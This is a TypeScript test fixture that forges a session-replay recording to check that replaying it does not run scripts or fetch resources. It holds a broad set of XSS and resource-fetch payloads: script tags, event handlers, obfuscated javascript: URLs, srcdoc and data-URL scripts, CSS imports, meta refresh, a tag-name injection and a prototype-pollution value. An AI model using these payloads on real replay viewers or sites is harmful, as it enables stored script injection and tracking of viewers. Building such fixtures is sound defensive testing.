// A recording that no recorder of ours would make: sent by a program, with everything in it that
// might run or fetch something where it is replayed.
import type { Value } from '../../web/shared/msgpack.ts';
import { encode } from '../../web/shared/pack.ts';
import type { Sent } from './resend.ts';

let ids = 1;

type Built = { [name: string]: unknown };

function text(textContent: string): Built {
  ids += 1;
  return { type: 3, id: ids, textContent };
}

function element(
  tagName: string,
  attributes: Built,
  childNodes: Built[] = [],
  more: Built = {},
): Built {
  ids += 1;
  return { type: 2, id: ids, tagName, attributes, childNodes, ...more };
}

/** Nodes that do something in a browser, each asking `site` to say which one did. */
function hostile(site: string, when: string): Built[] {
  const fetched = (what: string) => `${site}/fetched?${when}-${what}`;
  const run = (what: string) => `top.ranHere=true;fetch('${site}/ran?${when}-${what}')`;
  return [
    element('script', {}, [text(run('script'))]),
    element('SCRIPT', { src: fetched('script') }),
    element('svg:script', {}, [text(run('svg'))], { isSVG: true }),
    element('img', { src: 'x', onerror: run('img'), rr_dataURL: fetched('data-url') }),
    element('img', { src: fetched('img'), srcset: fetched('srcset') }),
    element('iframe', { srcdoc: `<script>${run('srcdoc')}</script>`, rr_src: fetched('rr-src') }),
    element('iframe', { src: ` java\nscript:${run('frame')}`, sandbox: 'allow-scripts' }),
    element('frame', { src: fetched('frame') }),
    element('object', { data: fetched('object') }),
    element('embed', { src: `data:text/html,<script>${run('embed')}</script>` }),
    element('link', { rel: 'stylesheet', href: fetched('sheet') }),
    element('link', { _cssText: `@import "${fetched('css-text')}"; b { color: red }` }),
    element('style', { _cssText: `@import url(${fetched('style')})` }),
    element('style', {}, [text(`body { background: url(${fetched('style-text')}) }`)]),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${fetched('refresh')}` }),
    element('base', { href: `${site}/fetched/` }),
    element('video', { src: fetched('video'), poster: fetched('poster'), rr_mediaState: 'played' }),
    element('canvas', { rr_dataURL: fetched('canvas') }),
    element('body', { onload: run('body'), background: fetched('body') }),
    element('div', { style: `background: url(${fetched('inline')})`, onclick: run('click') }),
    element('svg', { onload: run('svg-onload') }, [], { isSVG: true }),
    element('animate', { values: `javascript:${run('animate')}` }, [], { isSVG: true }),
    element('portal', { src: fetched('portal') }),
    element('fencedframe', { src: fetched('fenced') }),
    element('details', { open: '', ontoggle: run('toggle') }),
    element('x"><script>', {}, [text('x')]),
  ];
}

/** The events, as one batch of one stream; the visitor's clock begins at `at`. */
function events(site: string, at: number): Built[] {
  const head = element('head', {}, hostile(site, 'head'));
  const body = element('body', {}, hostile(site, 'body'));
  const document = { type: 0, id: 1, childNodes: [element('html', {}, [head, body])] };
  const incremental = (after: number, data: Built) => ({ type: 3, timestamp: at + after, data });
  const change = (attributes: Built) => ({ id: body['id'], attributes });
  return [
    {
      type: 4,
      timestamp: at,
      data: { href: `javascript:fetch('${site}/ran?href')`, width: 800, height: 600 },
    },
    { type: 2, timestamp: at + 10, data: { node: document, initialOffset: { top: 0, left: 0 } } },
    incremental(100, {
      source: 0,
      removes: [],
      texts: [],
      attributes: [
        change({ onmouseover: `fetch('${site}/ran?over')`, background: `${site}/fetched?changed` }),
        change({ style: { 'background-image': `url(${site}/fetched?changed-style)` } }),
      ],
      adds: hostile(site, 'later').map((node) => ({ parentId: body['id'], nextId: null, node })),
    }),
    incremental(150, {
      source: 10,
      family: 'Evil',
      fontSource: `url(${site}/fetched?font-event)`,
      buffer: false,
    }),
    incremental(160, {
      source: 15,
      id: 1,
      styleIds: [1],
      styles: [
        {
          styleId: 1,
          rules: [{ rule: `* { background: url(${site}/fetched?adopted) }`, index: 0 }],
        },
      ],
    }),
    incremental(170, {
      source: 9,
      id: body['id'],
      type: 0,
      commands: [{ property: 'constructor', args: [`fetch('${site}/ran?canvas')`] }],
    }),
    {
      type: 5,
      timestamp: at + 180,
      data: { tag: 'x', payload: { __proto__: null, constructor: 1 } },
    },
    { type: 6, timestamp: at + 190, data: { plugin: 'x', payload: { code: 'alert(1)' } } },
    incremental(1_000, { source: 2, type: 2, id: body['id'], x: 5, y: 5 }),
  ];
}

/** What the forger sends. */
export function forged(site: string, user: string): Sent[] {
  const at = Date.now();
  const recorded = events(site, at);
  const payload = Uint8Array.from(Buffer.concat(recorded.map((event) => encode(event as Value))));
  const address = `javascript:fetch('${site}/ran?page')`;
  const title = `<img src="${site}/fetched?title" onerror="fetch('${site}/ran?title')">`;
  const page = {
    url: address,
    title,
    referrer: address,
    viewport_width: 800,
    viewport_height: 600,
    time_zone: title.slice(0, 40),
  };
  const messages: Sent['message'][] = [
    { kind: 'page', number: 1, at_ms: at, page, cause: 'load' },
    { kind: 'identify', number: 2, at_ms: at, user, traits: [] },
    {
      kind: 'batch',
      number: 3,
      first_event_ms: at,
      last_event_ms: at + 1_000,
      events: recorded.length,
      flags: 1,
      part: 0,
      parts: 0,
      clicks: 1,
      inputs: 0,
      errors: 0,
      encoding: 'plain',
      inflated_bytes: payload.length,
      payload,
    },
    { kind: 'end', number: 4, at_ms: at + 1_000, cause: 'page_hidden' },
  ];
  return messages.map((message) => ({ stream: 'forged', message }));
}
